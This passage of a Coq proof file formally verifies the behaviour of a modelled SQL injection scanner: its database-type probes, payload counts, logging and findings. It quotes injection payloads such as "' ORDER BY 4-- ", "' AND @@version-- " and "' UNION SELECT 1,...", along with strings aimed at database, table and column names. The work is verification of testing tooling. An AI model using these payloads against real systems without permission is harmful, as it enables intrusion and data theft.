                      {| SQLInjectionTester.vulnerable := true;
                         SQLInjectionTester.details :=
                           "错误型测试成功 - 载荷(')触发了SQL错误：sql syntax";
                         SQLInjectionTester.payload := "'";
                         SQLInjectionTester.columns := 0 |}, snd done))
    by (vm_compute; reflexivity).
  specialize (H Hrun). lia.
Defined.

(** The query of three columns: the discovery stops on the response to
    the probe for four columns. *)
Lemma discovery_leaves_the_error_page_witness :
  let done := SQLInjectionTester.discover_columns Scenarios.three_column_page
                "[name='q']" Scenarios.fresh_tester in
  exists before,
    (snd done).(SQLInjectionTester.calls)
    = (before ++ [SQLInjectionTester.InnerText])%list.
Proof.
  intros done.
  destruct (@discovery_leaves_the_error_page _ Scenarios.three_column_page
              "[name='q']" Scenarios.fresh_tester (snd done) 3 "' ORDER BY 4-- ")
    as [H _].
  - vm_compute. reflexivity.
  - lia.
  - exact H.
Defined.

(** ** The run of the tester over the input points *)

Section RunFacts.

Import SQLInjectionRun.

Variable W : Type.

Local Abbreviation state := (SQLInjectionRun.t W).
Local Abbreviation step := (SQLInjectionRun.step W).

(** *** Steps that leave a part of the tester alone *)

(** A step that leaves the reading [f] of the tester as it is, whether it
    returns or raises. *)
Definition frame {X A : Type} (f : state -> X) (m : step A) : Prop :=
  forall s, f (snd (m s)) = f s.

Lemma frame_bind {X A B : Type} (f : state -> X) (m : step A) (k : A -> step B) :
  frame f m -> (forall x, frame f (k x)) -> frame f (bind m k).
Proof.
  intros Hm Hk s. unfold bind. pose proof (Hm s) as E.
  destruct (m s) as [[x|e] s1]; cbn [snd] in *; [rewrite Hk|]; exact E.
Qed.

Lemma frame_ret {X A : Type} (f : state -> X) (x : A) : frame f (ret (W := W) x).
Proof. intros s. reflexivity. Qed.

Lemma frame_read {X A : Type} (f : state -> X) (g : state -> A) : frame f (read g).
Proof. intros s. reflexivity. Qed.

(** The status and the findings: what the test of an input point and the
    description of the database do not write. *)
Definition verdicts (s : state) : string * list vulnerability * list vulnerability :=
  (s.(status), s.(found_vulnerabilities), s.(vulnerable_points)).

Lemma frame_lift_verdicts {A : Type} (m : SQLInjectionTester.step W A) :
  frame verdicts (lift m).
Proof. intros s. unfold lift. destruct (m (tester s)). reflexivity. Qed.

Lemma frame_set_db_type_verdicts (ty : string) : frame verdicts (set_db_type (W := W) ty).
Proof. intros s. reflexivity. Qed.

Lemma frame_record_verdicts (n st text : string) :
  frame verdicts (record_test_result (W := W) n st text).
Proof. apply frame_lift_verdicts. Qed.

Section OnPage.

Variable pg : SQLInjectionTester.ops W.

Lemma frame_response_verdicts (sel value : string) :
  frame verdicts (response pg sel value).
Proof.
  unfold response.
  apply frame_bind; [apply frame_lift_verdicts | intros _].
  apply frame_bind; [apply frame_lift_verdicts | intros _].
  apply frame_lift_verdicts.
Qed.

Lemma frame_leave_verdicts : frame verdicts (leave pg).
Proof.
  unfold leave. apply frame_bind; [apply frame_lift_verdicts | intros _].
  apply frame_lift_verdicts.
Qed.

Lemma frame_determine_verdicts (sel : string) :
  frame verdicts (_determine_db_type pg sel).
Proof.
  unfold _determine_db_type.
  repeat first
    [ apply frame_leave_verdicts
    | apply frame_set_db_type_verdicts
    | apply frame_response_verdicts
    | apply frame_bind; [|intros ?]
    | match goal with |- frame _ (if ?b then _ else _) => destruct b end ].
Qed.

Lemma frame_report_name_verdicts (label content : string) :
  frame verdicts (report_name (W := W) label content).
Proof.
  unfold report_name. destruct (first_plain_line content);
    [apply frame_record_verdicts | apply frame_ret].
Qed.

Lemma frame_analyse_verdicts (value content : string) :
  frame verdicts (analyse (W := W) value content).
Proof.
  unfold analyse, _analyze_db_version, _analyze_db_name, _analyze_tables,
    _analyze_columns.
  repeat match goal with |- frame _ (if ?b then _ else _) => destruct b end;
    try apply frame_report_name_verdicts; try apply frame_ret.
  apply frame_bind; [apply frame_read | intros ty].
  destruct (search _ _); [apply frame_record_verdicts | apply frame_ret].
Qed.

Lemma frame_extract_loop_verdicts (sel : string) (payloads : list string) :
  frame verdicts (extract_loop pg sel payloads).
Proof.
  induction payloads as [|value rest IH]; cbn [extract_loop].
  - apply frame_ret.
  - apply frame_bind; [apply frame_read | intros count].
    apply frame_bind.
    { destruct (count >? 1); [intros s; reflexivity | apply frame_ret]. }
    intros value'.
    apply frame_bind; [apply frame_response_verdicts | intros content].
    apply frame_bind; [apply frame_analyse_verdicts | intros _].
    apply frame_bind; [apply frame_leave_verdicts | intros _]. exact IH.
Qed.

Lemma frame_extract_verdicts (p : SQLInjectionTester.input_point) :
  frame verdicts (_extract_database_info pg p).
Proof.
  unfold _extract_database_info. cbv zeta.
  apply frame_bind; [apply frame_determine_verdicts | intros _].
  apply frame_bind; [apply frame_read | intros ty].
  apply frame_extract_loop_verdicts.
Qed.

(** A point the test reports injectable is marked vulnerable. *)
Lemma input_point_marked (p : SQLInjectionTester.input_point) (idx : Z) :
  yields (fun r => fst r = true ->
                   (snd r).(SQLInjectionTester.is_vulnerable) = true)
         (SQLInjectionTester._test_input_point pg p idx).
Proof.
  unfold SQLInjectionTester._test_input_point. cbv zeta.
  apply yields_then. intros _. apply yields_then. intros original.
  apply yields_then. intros bool_results.
  destruct (SQLInjectionTester.vulnerable bool_results).
  { apply yields_then. intros _. apply yields_ret. reflexivity. }
  apply yields_then. intros error_results.
  destruct (SQLInjectionTester.vulnerable error_results).
  { apply yields_then. intros _. apply yields_ret. reflexivity. }
  apply yields_then. intros union_results.
  destruct (SQLInjectionTester.vulnerable union_results).
  { apply yields_then. intros _. apply yields_then. intros _.
    apply yields_ret. reflexivity. }
  apply yields_ret. discriminate.
Qed.


(** A finding of the run: of the kind [sql_injection], on a point marked
    vulnerable. *)
Definition is_finding (v : vulnerability) : Prop :=
  v.(kind) = "sql_injection" /\
  v.(input_point).(SQLInjectionTester.is_vulnerable) = true.

(** What the loop over the input points adds to the findings. *)
Lemma test_points_findings (points : list SQLInjectionTester.input_point) :
  forall (idx : Z) (acc : list SQLInjectionTester.input_point) (s s' : state)
         (r : list SQLInjectionTester.input_point),
    test_points pg idx points acc s = (Returns r, s') ->
    exists new,
      s'.(found_vulnerabilities) = (s.(found_vulnerabilities) ++ new)%list /\
      s'.(vulnerable_points) = (s.(vulnerable_points) ++ new)%list /\
      r = (acc ++ List.map input_point new)%list /\
      List.Forall is_finding new /\
      s'.(status) = match new with [] => s.(status) | _ => "vulnerable" end.
Proof.
  induction points as [|p rest IH]; intros idx acc s s' r H; cbn [test_points] in H.
  - injection H as <- <-. exists []. rewrite !List.app_nil_r.
    repeat split; auto.
  - destruct (is_skipped p); [apply (IH _ _ _ _ _ H)|].
    unfold bind at 1 in H.
    pose proof (frame_lift_verdicts (SQLInjectionTester._test_input_point pg p idx) s)
      as F1.
    pose proof (@input_point_marked p idx (tester s)) as Hmark.
    unfold lift at 1 in H. unfold lift at 1 in F1.
    destruct (SQLInjectionTester._test_input_point pg p idx (tester s))
      as [[tested|e] c1]; [|discriminate].
    specialize (Hmark tested c1 eq_refl). cbv beta in Hmark.
    cbn [snd] in F1. set (s1 := with_tester c1 s) in *.
    destruct (fst tested) eqn:Hinj.
    + unfold bind at 1 in H. cbn [record_vulnerability] in H.
      set (v := {| input_point := snd tested; kind := "sql_injection";
                   description := "该输入点存在SQL注入漏洞" |}) in H.
      set (s2 := {| tester := tester s1; db_type := db_type s1;
                    status := "vulnerable";
                    found_vulnerabilities := (found_vulnerabilities s1 ++ [v])%list;
                    vulnerable_points := (vulnerable_points s1 ++ [v])%list |}) in H.
      unfold bind at 1 in H. cbn [column_count_now read] in H.
      unfold bind at 1 in H.
      assert (F3 : forall x s3,
                 (if SQLInjectionTester.column_count (tester s2) >? 0
                  then _extract_database_info pg (snd tested) else ret tt) s2
                 = (x, s3) -> verdicts s3 = verdicts s2).
      { intros x s3 E.
        destruct (SQLInjectionTester.column_count (tester s2) >? 0).
        - pose proof (frame_extract_verdicts (snd tested) s2) as F.
          rewrite E in F. exact F.
        - injection E as _ <-. reflexivity. }
      destruct ((if SQLInjectionTester.column_count (tester s2) >? 0
                 then _extract_database_info pg (snd tested) else ret tt) s2)
        as [[[]|e] s3] eqn:E3; [|discriminate].
      specialize (F3 _ _ eq_refl).
      destruct (IH _ _ _ _ _ H) as (new & A & B & C & D & E).
      assert (F2s : status s2 = "vulnerable") by reflexivity.
      assert (F2f : found_vulnerabilities s2 = (found_vulnerabilities s ++ [v])%list)
        by reflexivity.
      assert (F2p : vulnerable_points s2 = (vulnerable_points s ++ [v])%list)
        by reflexivity.
      clearbody s2. unfold verdicts in F3. injection F3 as F3s F3f F3p.
      exists (v :: new). split; [|split; [|split; [|split]]].
      * rewrite A, F3f, F2f, <- List.app_assoc. reflexivity.
      * rewrite B, F3p, F2p, <- List.app_assoc. reflexivity.
      * rewrite C, <- List.app_assoc. reflexivity.
      * constructor; [|exact D]. split; [reflexivity | apply Hmark; reflexivity].
      * rewrite E, F3s, F2s. destruct new; reflexivity.
    + destruct (IH _ _ _ _ _ H) as (new & A & B & C & D & E).
      exists new. rewrite A, B, E. repeat split; auto.
Qed.

(** *** The recognition of the database *)

Lemma frame_lift {X A : Type} (f : state -> X) (m : SQLInjectionTester.step W A) :
  (forall s c, f (with_tester c s) = f s) -> frame f (lift m).
Proof. intros Hf s. unfold lift. destruct (m (tester s)). apply Hf. Qed.

(** The log of the test and the column count. *)
Definition log_and_count (s : state) : list SQLInjectionTester.detail * Z :=
  (s.(tester).(SQLInjectionTester.test_details),
   s.(tester).(SQLInjectionTester.column_count)).

Lemma frame_lift_log {A : Type} (m : SQLInjectionTester.step W A) :
  keeps_log m -> frame log_and_count (lift m).
Proof.
  intros Hm s. unfold lift, log_and_count. destruct (Hm (tester s)) as [E1 E2].
  destruct (m (tester s)) as [r c]. cbn [snd with_tester tester] in *. congruence.
Qed.

(** From a state that satisfies [P], when the step returns [r] in the
    state [s'], [Q r s'] holds. *)
Definition run_triple {A : Type} (P : state -> Prop) (m : step A)
    (Q : A -> state -> Prop) : Prop :=
  forall s r s', P s -> m s = (Returns r, s') -> Q r s'.

Lemma run_triple_bind {A B : Type} (P : state -> Prop) (R : A -> state -> Prop)
    (Q : B -> state -> Prop) (m : step A) (k : A -> step B) :
  run_triple P m R -> (forall x, run_triple (R x) (k x) Q) ->
  run_triple P (bind m k) Q.
Proof.
  intros Hm Hk s r s' Hp H. unfold bind in H.
  destruct (m s) as [[x|e] s1] eqn:E; [|discriminate].
  eapply Hk; [eapply Hm; [exact Hp | exact E] | exact H].
Qed.

Lemma run_triple_frame {X A : Type} (f : state -> X) (v : X) (m : step A) :
  frame f m -> run_triple (fun s => f s = v) m (fun _ s' => f s' = v).
Proof.
  intros Hm s r s' Hs E. pose proof (Hm s) as F. rewrite E in F.
  cbn [snd] in F. congruence.
Qed.

Lemma run_triple_post {A : Type} (P : state -> Prop) (m : step A)
    (Q Q' : A -> state -> Prop) :
  (forall r s, Q r s -> Q' r s) -> run_triple P m Q -> run_triple P m Q'.
Proof. intros Hq Hm s r s' Hs E. apply Hq. eapply Hm; [exact Hs | exact E]. Qed.

Lemma run_triple_set_db_type (P : state -> Prop) (ty : string) :
  run_triple P (set_db_type (W := W) ty) (fun _ s' => s'.(db_type) = ty).
Proof. intros s r s' _ E. injection E as _ <-. reflexivity. Qed.

Lemma frame_response_db_type (sel value : string) :
  frame (db_type (W := W)) (response pg sel value).
Proof.
  unfold response.
  apply frame_bind; [apply frame_lift; reflexivity | intros _].
  apply frame_bind; [apply frame_lift; reflexivity | intros _].
  apply frame_lift; reflexivity.
Qed.

Lemma frame_leave_db_type : frame (db_type (W := W)) (leave pg).
Proof.
  unfold leave. apply frame_bind; [apply frame_lift; reflexivity | intros _].
  apply frame_lift; reflexivity.
Qed.

Definition db_types : list string := ["mysql"; "mssql"; "oracle"].

(** The guess of a probe that shows no error. *)
Lemma guess_and_leave (P : state -> Prop) (ty : string) :
  List.In ty db_types ->
  run_triple P (bind (set_db_type ty) (fun _ => leave pg))
             (fun _ s' => List.In s'.(db_type) db_types).
Proof.
  intros Hty.
  eapply run_triple_bind; [apply run_triple_set_db_type | intros ?; cbv beta].
  eapply run_triple_post; [|apply run_triple_frame, frame_leave_db_type].
  intros r s E. cbv beta in E. rewrite E. exact Hty.
Qed.

Lemma determine_db_type_guess (sel : string) :
  run_triple (fun _ => True) (_determine_db_type pg sel)
             (fun _ s' => List.In s'.(db_type) db_types).
Proof.
  unfold _determine_db_type.
  eapply run_triple_bind; [apply run_triple_set_db_type | intros ?; cbv beta].
  eapply run_triple_bind;
    [apply run_triple_frame, frame_response_db_type | intros content; cbv beta].
  destruct (negb _); [apply guess_and_leave; simpl; auto|].
  eapply run_triple_bind;
    [apply run_triple_frame, frame_leave_db_type | intros ?; cbv beta].
  eapply run_triple_bind;
    [apply run_triple_frame, frame_response_db_type | intros content2; cbv beta].
  destruct (negb _); [apply guess_and_leave; simpl; auto|].
  eapply run_triple_bind;
    [apply run_triple_frame, frame_leave_db_type | intros ?; cbv beta].
  eapply run_triple_bind;
    [apply run_triple_frame, frame_response_db_type | intros content3; cbv beta].
  destruct (negb _); [apply guess_and_leave; simpl; auto|].
  eapply run_triple_post; [|apply run_triple_frame, frame_leave_db_type].
  intros r s E. cbv beta in E. rewrite E. simpl. auto.
Qed.

(** A step of the run that types at most [n] payloads, each of which
    satisfies [P]. *)
Definition run_sends {A : Type} (n : nat) (P : string -> Prop) (m : step A) : Prop :=
  forall s, exists typed,
    SQLInjectionTester.probes (snd (m s)).(tester)
    = (SQLInjectionTester.probes s.(tester) ++ typed)%list /\
    (List.length typed <= n)%nat /\
    List.Forall P typed.

Lemma run_sends_bind {A B : Type} (n1 n2 : nat) (P : string -> Prop) (m : step A)
    (k : A -> step B) :
  run_sends n1 P m -> (forall x, run_sends n2 P (k x)) ->
  run_sends (n1 + n2) P (bind m k).
Proof.
  intros Hm Hk s. unfold bind. destruct (Hm s) as (t1 & E1 & L1 & F1).
  destruct (m s) as [[x|e] s1]; cbn [snd] in *.
  - destruct (Hk x s1) as (t2 & E2 & L2 & F2).
    exists (t1 ++ t2)%list. split; [|split].
    + rewrite E2, E1, List.app_assoc. reflexivity.
    + rewrite List.length_app. lia.
    + apply List.Forall_app. split; assumption.
  - exists t1. split; [exact E1 | split; [lia | exact F1]].
Qed.

Lemma run_sends_more {A : Type} (n n' : nat) (P : string -> Prop) (m : step A) :
  (n <= n')%nat -> run_sends n P m -> run_sends n' P m.
Proof.
  intros Hn Hm s. destruct (Hm s) as (typed & E & L & F).
  exists typed. split; [exact E | split; [lia | exact F]].
Qed.

Lemma run_sends_lift {A : Type} (n : nat) (P : string -> Prop)
    (m : SQLInjectionTester.step W A) :
  sends n P m -> run_sends n P (lift m).
Proof.
  intros Hm s. unfold lift. destruct (Hm (tester s)) as (typed & E & L & F).
  destruct (m (tester s)) as [r c]. exists typed. cbn [snd with_tester tester] in *.
  split; [exact E | split; [exact L | exact F]].
Qed.

Lemma run_sends_still {A : Type} (P : string -> Prop) (m : step A) :
  frame (fun s => s.(tester)) m -> run_sends 0 P m.
Proof.
  intros Hm s. exists []. rewrite (Hm s), List.app_nil_r.
  split; [reflexivity | split; [simpl; lia | constructor]].
Qed.

Lemma run_sends_response (P : string -> Prop) (sel value : string) :
  P value -> run_sends 1 P (response pg sel value).
Proof.
  intros Hv. unfold response. change 1%nat with (1 + (0 + 0))%nat.
  apply run_sends_bind; [apply run_sends_lift, sends_submit, Hv | intros _].
  apply run_sends_bind; [apply run_sends_lift, sends_pause | intros _].
  apply run_sends_lift, sends_perform_other. exact I.
Qed.

Lemma run_sends_leave (P : string -> Prop) : run_sends 0 P (leave pg).
Proof.
  unfold leave. change 0%nat with (0 + 0)%nat.
  apply run_sends_bind;
    [apply run_sends_lift, sends_perform_other; exact I | intros _].
  apply run_sends_lift, sends_pause.
Qed.

Lemma run_sends_set_db_type (P : string -> Prop) (ty : string) :
  run_sends 0 P (set_db_type (W := W) ty).
Proof. apply run_sends_still. intros s. reflexivity. Qed.

(** The probes of the recognition. *)
Definition db_type_probes : list string :=
  ["' AND @@version-- "; "' AND @@SERVERNAME-- "; "' AND ROWNUM=1-- "].

Lemma run_sends_guess (P : string -> Prop) (ty : string) :
  run_sends 0 P (bind (set_db_type ty) (fun _ => leave pg)).
Proof.
  change 0%nat with (0 + 0)%nat.
  apply run_sends_bind; [apply run_sends_set_db_type | intros _].
  apply run_sends_leave.
Qed.

Lemma run_sends_determine (sel : string) :
  run_sends 3 (fun v => List.In v db_type_probes) (_determine_db_type pg sel).
Proof.
  unfold _determine_db_type.
  change 3%nat with (0 + (1 + (0 + (1 + (0 + (1 + 0))))))%nat.
  apply run_sends_bind; [apply run_sends_set_db_type | intros _].
  apply run_sends_bind; [apply run_sends_response; simpl; auto | intros content].
  destruct (negb _);
    [eapply run_sends_more; [|apply run_sends_guess]; lia|].
  apply run_sends_bind; [apply run_sends_leave | intros _].
  apply run_sends_bind; [apply run_sends_response; simpl; auto | intros content2].
  destruct (negb _);
    [eapply run_sends_more; [|apply run_sends_guess]; lia|].
  apply run_sends_bind; [apply run_sends_leave | intros _].
  apply run_sends_bind; [apply run_sends_response; simpl; auto | intros content3].
  destruct (negb _); [apply run_sends_guess | apply run_sends_leave].
Qed.

Lemma frame_response_log (sel value : string) :
  frame log_and_count (response pg sel value).
Proof.
  unfold response.
  apply frame_bind; [apply frame_lift_log, keeps_log_submit | intros _].
  apply frame_bind; [apply frame_lift_log, keeps_log_pause | intros _].
  apply frame_lift_log, keeps_log_perform.
Qed.

Lemma frame_leave_log : frame log_and_count (leave pg).
Proof.
  unfold leave.
  apply frame_bind; [apply frame_lift_log, keeps_log_perform | intros _].
  apply frame_lift_log, keeps_log_pause.
Qed.

Lemma frame_determine_log (sel : string) :
  frame log_and_count (_determine_db_type pg sel).
Proof.
  unfold _determine_db_type.
  repeat first
    [ apply frame_leave_log
    | apply frame_response_log
    | match goal with
      | |- frame _ (set_db_type _) => intros s; reflexivity
      | |- frame _ (if ?b then _ else _) => destruct b
      end
    | apply frame_bind; [|intros ?] ].
Qed.

(** X16.  When [_determine_db_type] returns, the database type is mysql,
    mssql or oracle (mysql also when every probe met an error); the
    recognition typed three payloads at most, each one of its three
    probes, and wrote neither the log, the column count, the status nor
    the findings. *)
Theorem determine_db_type_outcome (sel : string) (s s' : state) :
  _determine_db_type pg sel s = (Returns tt, s') ->
  List.In s'.(db_type) ["mysql"; "mssql"; "oracle"] /\
  (exists typed,
     SQLInjectionTester.probes s'.(tester)
     = (SQLInjectionTester.probes s.(tester) ++ typed)%list /\
     (List.length typed <= 3)%nat /\
     List.Forall (fun v => List.In v ["' AND @@version-- "; "' AND @@SERVERNAME-- ";
                                      "' AND ROWNUM=1-- "]) typed) /\
  s'.(tester).(SQLInjectionTester.test_details)
  = s.(tester).(SQLInjectionTester.test_details) /\
  s'.(tester).(SQLInjectionTester.column_count)
  = s.(tester).(SQLInjectionTester.column_count) /\
  s'.(status) = s.(status) /\
  s'.(found_vulnerabilities) = s.(found_vulnerabilities) /\
  s'.(vulnerable_points) = s.(vulnerable_points).
Proof.
  intros H.
  split; [apply (@determine_db_type_guess sel s tt s' I H)|].
  split.
  { destruct (run_sends_determine sel s) as (typed & E & L & F).
    rewrite H in E. exists typed. split; [exact E | split; [exact L | exact F]]. }
  pose proof (frame_determine_log sel s) as F1.
  pose proof (frame_determine_verdicts sel s) as F2.
  rewrite H in F1, F2. cbn [snd] in F1, F2.
  unfold log_and_count in F1. unfold verdicts in F2.
  injection F1 as F1a F1b. injection F2 as F2a F2b F2c.
  repeat split; assumption.
Qed.

(** *** The description of the database: what the log gains *)

Definition log (s : state) : list SQLInjectionTester.detail :=
  s.(tester).(SQLInjectionTester.test_details).

(** A step after which the log has at most [n] more entries, each of
    them satisfying [L], whether the step returns or raises. *)
Definition appends {A : Type} (L : SQLInjectionTester.detail -> Prop) (n : nat)
    (m : step A) : Prop :=
  forall s, exists new,
    log (snd (m s)) = (log s ++ new)%list /\
    (List.length new <= n)%nat /\ List.Forall L new.

Lemma appends_bind {A B : Type} (L : SQLInjectionTester.detail -> Prop)
    (n k : nat) (m : step A) (f : A -> step B) :
  appends L n m -> (forall x, appends L k (f x)) -> appends L (n + k) (bind m f).
Proof.
  intros Hm Hf s. unfold bind. destruct (Hm s) as (new1 & E1 & L1 & F1).
  destruct (m s) as [[x|e] s1]; cbn [snd] in *.
  - destruct (Hf x s1) as (new2 & E2 & L2 & F2).
    exists (new1 ++ new2)%list. rewrite E2, E1, List.app_assoc.
    split; [reflexivity|].
    split; [rewrite List.length_app; lia | apply List.Forall_app; auto].
  - exists new1. split; [exact E1|]. split; [lia | exact F1].
Qed.

Lemma appends_frame {A : Type} (L : SQLInjectionTester.detail -> Prop) (m : step A) :
  frame log_and_count m -> appends L 0 m.
Proof.
  intros Hm s. exists []. pose proof (Hm s) as E. unfold log_and_count in E.
  injection E as E _. unfold log. rewrite E, List.app_nil_r.
  split; [reflexivity|]. split; [reflexivity | constructor].
Qed.

Lemma appends_record (L : SQLInjectionTester.detail -> Prop) (n st text : string) :
  L {| SQLInjectionTester.step_name := n; SQLInjectionTester.status := st;
       SQLInjectionTester.message := text |} ->
  appends L 1 (record_test_result (W := W) n st text).
Proof.
  intros Hl s. eexists [_]. split; [reflexivity|].
  split; [reflexivity|]. constructor; [exact Hl | constructor].
Qed.

(** An entry of the description of a database of type [ty]: a version, a
    database name or a table name, and for SQL Server also a column
    name. *)
Definition db_info_entry (ty : string) (d : SQLInjectionTester.detail) : Prop :=
  d.(SQLInjectionTester.step_name) = "db_info" /\
  d.(SQLInjectionTester.status) = "info" /\
  (PyStr.startswith "数据库版本: " d.(SQLInjectionTester.message) = true \/
   PyStr.startswith "数据库名称: " d.(SQLInjectionTester.message) = true \/
   PyStr.startswith "表名: " d.(SQLInjectionTester.message) = true \/
   (ty = "mssql" /\
    PyStr.startswith "列名: " d.(SQLInjectionTester.message) = true)).

(** The payloads whose response is handed to [_analyze_columns]. *)
Definition column_branch (v : string) : bool :=
  (negb (PyStr.contains "version" v)
   && negb (PyStr.contains "database()" v || PyStr.contains "DB_NAME()" v)
   && negb (PyStr.contains "table_name" v
            || PyStr.contains "name FROM sysobjects" v)
   && (PyStr.contains "column_name" v
       || PyStr.contains "name FROM syscolumns" v))%bool.

Lemma appends_still {A : Type} (L : SQLInjectionTester.detail -> Prop) (m : step A) :
  (forall s, snd (m s) = s) -> appends L 0 m.
Proof.
  intros Hm s. exists []. rewrite Hm, List.app_nil_r.
  split; [reflexivity|]. split; [reflexivity | constructor].
Qed.

Lemma appends_more {A : Type} (L : SQLInjectionTester.detail -> Prop) (n k : nat)
    (m : step A) :
  (n <= k)%nat -> appends L n m -> appends L k m.
Proof.
  intros Hnk Hm s. destruct (Hm s) as (new & E & Hl & F).
  exists new. split; [exact E|]. split; [lia | exact F].
Qed.

Lemma appends_report_name (ty label content : string) :
  (forall line,
     db_info_entry ty
       {| SQLInjectionTester.step_name := "db_info";
          SQLInjectionTester.status := "info";
          SQLInjectionTester.message := label ++ line |}) ->
  appends (db_info_entry ty) 1 (report_name (W := W) label content).
Proof.
  intros Hl. unfold report_name.
  destruct (first_plain_line content) as [line|].
  - apply appends_record, Hl.
  - apply (appends_more (n := 0)); [lia|]. apply appends_still. reflexivity.
Qed.

Lemma appends_analyse (ty value content : string) :
  (ty <> "mssql" -> column_branch value = false) ->
  appends (db_info_entry ty) 1 (analyse (W := W) value content).
Proof.
  intros Hcol. unfold analyse, column_branch in *.
  destruct (PyStr.contains "version" value).
  { unfold _analyze_db_version.
    apply (appends_bind (n := 0) (k := 1)); [apply appends_still; reflexivity|].
    intros ty'. destruct (search _ _) as [version|].
    - apply appends_record. split; [reflexivity|]. split; [reflexivity|].
      left. apply startswith_app.
    - apply (appends_more (n := 0)); [lia|]. apply appends_still. reflexivity. }
  destruct (PyStr.contains "database()" value || PyStr.contains "DB_NAME()" value)%bool.
  { apply appends_report_name. intros line.
    split; [reflexivity|]. split; [reflexivity|].
    right. left. apply startswith_app. }
  destruct (PyStr.contains "table_name" value
            || PyStr.contains "name FROM sysobjects" value)%bool.
  { apply appends_report_name. intros line.
    split; [reflexivity|]. split; [reflexivity|].
    right. right. left. apply startswith_app. }
  destruct (PyStr.contains "column_name" value
            || PyStr.contains "name FROM syscolumns" value)%bool.
  - apply appends_report_name. intros line.
    split; [reflexivity|]. split; [reflexivity|].
    right. right. right. split; [|apply startswith_app].
    destruct (String.eqb_spec ty "mssql") as [E | E]; [exact E|].
    specialize (Hcol E). discriminate Hcol.
  - apply (appends_more (n := 0)); [lia|]. apply appends_still. reflexivity.
Qed.

(** **** The text of an adjusted payload *)

Lemma prefix_app_l (p x y : string) :
  String.prefix p x = true -> String.prefix p (x ++ y) = true.
Proof.
  revert x. induction p as [|c p IH]; intros x;
    [intros _; destruct (x ++ y); reflexivity|].
  destruct x as [|d x]; simpl; [discriminate|].
  destruct (ascii_dec c d); [apply IH | discriminate].
Qed.

Lemma contains_app_l (p x y : string) :
  PyStr.contains p x = true -> PyStr.contains p (x ++ y) = true.
Proof.
  induction x as [|c x IH]; simpl.
  - rewrite Bool.orb_false_r. intros H. destruct p; [|discriminate].
    destruct y; reflexivity.
  - intros H. apply Bool.orb_true_iff in H as [H | H].
    + apply (prefix_app_l p (String c x) y) in H. simpl in H. rewrite H. reflexivity.
    + rewrite (IH H). apply Bool.orb_true_r.
Qed.

Lemma contains_app_r (p x y : string) :
  PyStr.contains p y = true -> PyStr.contains p (x ++ y) = true.
Proof.
  intros H. induction x as [|c x IH]; simpl; [exact H|].
  rewrite IH. apply Bool.orb_true_r.
Qed.

(** A suffix of [x] that is not empty begins [p]. *)
Fixpoint overlaps (p x : string) : bool :=
  match x with
  | EmptyString => false
  | String _ rest => (String.prefix x p || overlaps p rest)%bool
  end.

Lemma prefix_app_cases (p x y : string) :
  String.prefix p (x ++ y) = true ->
  String.prefix p x = true \/ String.prefix x p = true.
Proof.
  revert x. induction p as [|c p IH]; intros x.
  - intros _. left. destruct x; reflexivity.
  - destruct x as [|d x]; [intros _; right; reflexivity|].
    simpl. destruct (ascii_dec c d) as [E | E]; [|discriminate].
    subst d. destruct (ascii_dec c c) as [_ | N]; [apply IH | contradiction].
Qed.

Lemma contains_app_cases (p x y : string) :
  PyStr.contains p (x ++ y) = true ->
  PyStr.contains p x = true \/ overlaps p x = true \/ PyStr.contains p y = true.
Proof.
  induction x as [|c x IH]; [right; right; assumption|].
  intros H. change (String c x ++ y) with (String c (x ++ y)) in H.
  cbn [PyStr.contains] in H. apply Bool.orb_true_iff in H as [H | H].
  - apply (prefix_app_cases p (String c x) y) in H. destruct H as [H | H].
    + left. cbn [PyStr.contains]. rewrite H. reflexivity.
    + right. left. cbn [overlaps]. rewrite H. reflexivity.
  - destruct (IH H) as [H1 | [H1 | H1]].
    + left. cbn [PyStr.contains]. rewrite H1. apply Bool.orb_true_r.
    + right. left. cbn [overlaps]. rewrite H1. apply Bool.orb_true_r.
    + right. right. exact H1.
Qed.

(** The end of an adjusted payload: commas and ones. *)
Fixpoint commas_and_ones (t : string) : bool :=
  match t with
  | EmptyString => true
  | String c rest =>
      ((Ascii.eqb c ","%char || Ascii.eqb c "1"%char) && commas_and_ones rest)%bool
  end.

Definition begins_with_letter (p : string) : bool :=
  match p with
  | EmptyString => false
  | String c _ => negb (Ascii.eqb c ","%char || Ascii.eqb c "1"%char)
  end.

Lemma contains_commas_and_ones (p t : string) :
  begins_with_letter p = true -> commas_and_ones t = true ->
  PyStr.contains p t = false.
Proof.
  destruct p as [|c p]; [discriminate|]. cbn [begins_with_letter]. intros Hc.
  induction t as [|d t IH]; [reflexivity|].
  cbn [commas_and_ones PyStr.contains]. intros H.
  apply Bool.andb_true_iff in H as [Hd Ht]. rewrite (IH Ht), Bool.orb_false_r.
  simpl. destruct (ascii_dec c d) as [E | E]; [|reflexivity].
  subst d. rewrite Hd in Hc. discriminate Hc.
Qed.

Lemma commas_and_ones_app (a b : string) :
  commas_and_ones a = true -> commas_and_ones b = true ->
  commas_and_ones (a ++ b) = true.
Proof.
  induction a as [|c a IH]; [intros _ H; exact H|].
  cbn [commas_and_ones]. intros H Hb. apply Bool.andb_true_iff in H as [Hc Ha].
  change (String c a ++ b) with (String c (a ++ b)). cbn [commas_and_ones].
  rewrite Hc, (IH Ha Hb). reflexivity.
Qed.

Lemma join_ones (parts : list string) :
  List.Forall (fun x => x = "1") parts ->
  commas_and_ones (PyStr.join "," parts) = true.
Proof.
  induction 1 as [|x rest Hx Hrest IH]; [reflexivity|].
  subst x. destruct rest as [|y rest]; [reflexivity|].
  change (PyStr.join "," ("1" :: y :: rest))
    with ("1" ++ "," ++ PyStr.join "," (y :: rest)).
  apply (commas_and_ones_app "1," _); [reflexivity | exact IH].
Qed.

Lemma string_append_nil_r (a : string) : (a ++ EmptyString)%string = a.
Proof. induction a as [|x a IH]; simpl; [reflexivity | rewrite IH; reflexivity]. Qed.

(** With more than one column, the adjusted payload is the second part of
    the payload between [' UNION SELECT 1,] and commas and ones. *)
Lemma adjusted_form (value part : string) (count : Z) :
  1 < count ->
  List.nth_error (comma_parts value) 1 = Some part ->
  exists t,
    adjusted value count
    = Returns ("' UNION SELECT 1," ++ PyStr.strip part ++ t) /\
    commas_and_ones t = true.
Proof.
  intros Hcount Hpart. unfold adjusted. rewrite Hpart.
  unfold SQLInjectionTester.one_to.
  destruct (Z.to_nat count) as [|[|k]] eqn:E; [lia | lia|].
  cbn [List.seq List.map].
  change (Z.of_nat 0 + 1 =? 2) with false. change (Z.of_nat 1 + 1 =? 2) with true.
  cbv iota.
  set (rest := List.map _ (List.map _ (List.seq 2 k))).
  assert (Hrest : List.Forall (fun x => x = "1") rest).
